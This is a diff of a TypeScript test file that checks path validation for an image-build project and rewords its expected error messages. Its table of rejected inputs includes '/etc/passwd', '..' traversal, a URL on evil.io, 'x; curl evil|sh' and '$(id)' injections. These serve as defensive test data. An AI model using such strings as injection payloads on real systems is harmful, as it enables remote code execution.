@@ -8,19 +8,19 @@ const adding = (props: Partial<ImageBuildProjectProps>) => () => addProject(newS
 
 const badPaths: [string, string, string][] = [
   ['is empty', '', 'got an empty text'],
-  ['is absolute', '/etc/passwd', "got '/etc/passwd'; it starts at the source, not at '/'"],
-  ['leaves the source', '../other', "got '../other'; '..' leaves the source"],
-  ['leaves the source further on', 'a/../../b', "got 'a/../../b'; '..' leaves the source"],
-  ['is the folder above', '..', "got '..'; '..' leaves the source"],
-  ['is an option', '--build-arg', "got '--build-arg'; letters, digits and './_@+- ' only"],
-  ['is standard input', '-', "got '-'; letters, digits and './_@+- ' only"],
-  ['is an address', 'https://evil.io/x', "got 'https://evil.io/x'; letters, digits and './_@+- ' only"],
-  ['holds a command', 'x; curl evil|sh', "got 'x; curl evil|sh'; letters, digits and './_@+- ' only"],
-  ['holds a substitution', '$(id)', "got '$(id)'; letters, digits and './_@+- ' only"],
-  ['holds a backtick', 'a`id`', "got 'a`id`'; letters, digits and './_@+- ' only"],
-  ['holds a quote', 'a"b', "got 'a\"b'; letters, digits and './_@+- ' only"],
-  ['holds a newline', 'a\nb', "got 'a\\nb'; the character U+000A at index 1 is not ASCII"],
-  ['has white space around it', 'app ', "got 'app '; remove the white space around it"],
+  ['is absolute', '/etc/passwd', "got '/etc/passwd'. Write it relative to the source"],
+  ['leaves the source', '../other', "got '../other'. The path must not leave the source with '..'"],
+  ['leaves the source further on', 'a/../../b', "got 'a/../../b'. The path must not leave the source with '..'"],
+  ['is the folder above', '..', "got '..'. The path must not leave the source with '..'"],
+  ['is an option', '--build-arg', "got '--build-arg'. Use only letters, digits and './_@+- '"],
+  ['is standard input', '-', "got '-'. Use only letters, digits and './_@+- '"],
+  ['is an address', 'https://evil.io/x', "got 'https://evil.io/x'. Use only letters, digits and './_@+- '"],
+  ['holds a command', 'x; curl evil|sh', "got 'x; curl evil|sh'. Use only letters, digits and './_@+- '"],
+  ['holds a substitution', '$(id)', "got '$(id)'. Use only letters, digits and './_@+- '"],
+  ['holds a backtick', 'a`id`', "got 'a`id`'. Use only letters, digits and './_@+- '"],
+  ['holds a quote', 'a"b', "got 'a\"b'. Use only letters, digits and './_@+- '"],
+  ['holds a newline', 'a\nb', "got 'a\\nb'. The character U+000A at index 1 is not ASCII"],
+  ['has white space around it', 'app ', "got 'app '. Remove the white space around it"],
 ];
 
 describe.each(['dockerfile', 'context'] as const)('B16: %s', (path) => {
@@ -67,7 +67,7 @@ test('accepts a timeout that is a token', () => {
   expect(onlyProperties(stack, projectType).TimeoutInMinutes).toEqual({ Ref: 'Minutes' });
 });
 
-const nameForm = "2 to 150 letters, digits, '-' and '_'";
+const nameForm = "Use 2 to 150 letters, digits, '-' and '_'";
 
 test.each<[string, string, string]>([
   ['is empty', '', 'got an empty text'],
